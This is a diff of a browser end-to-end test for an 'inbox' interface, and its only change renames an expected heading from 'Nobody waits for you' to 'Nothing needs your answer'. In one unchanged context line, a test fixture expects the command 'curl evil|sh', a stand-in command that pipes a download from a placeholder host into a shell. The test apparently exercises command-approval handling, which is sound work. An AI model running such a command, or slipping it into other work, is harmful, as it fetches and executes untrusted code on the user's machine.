@@ -86,7 +86,7 @@ describe('the inbox', () => {
       await expect
         .poll(() => run.answers(), { timeout: 60_000 })
         .toEqual([{ answer, command: 'curl evil|sh' }]);
-      await page.getByRole('heading', { name: 'Nobody waits for you' }).waitFor();
+      await page.getByRole('heading', { name: 'Nothing needs your answer' }).waitFor();
     },
   );
 
@@ -102,7 +102,7 @@ describe('the inbox', () => {
     await box.and(page.locator(':focus')).waitFor();
     await page.keyboard.type('Ada');
     await page.keyboard.press('Enter');
-    await page.getByRole('heading', { name: 'Nobody waits for you' }).waitFor();
+    await page.getByRole('heading', { name: 'Nothing needs your answer' }).waitFor();
     await dashboard.open.call('run.wait', { run, timeoutMs: 60_000 });
     const { lines } = await dashboard.open.call('run.output', { run });
     expect(lines.at(-1).text).toBe('Hello, Ada.');
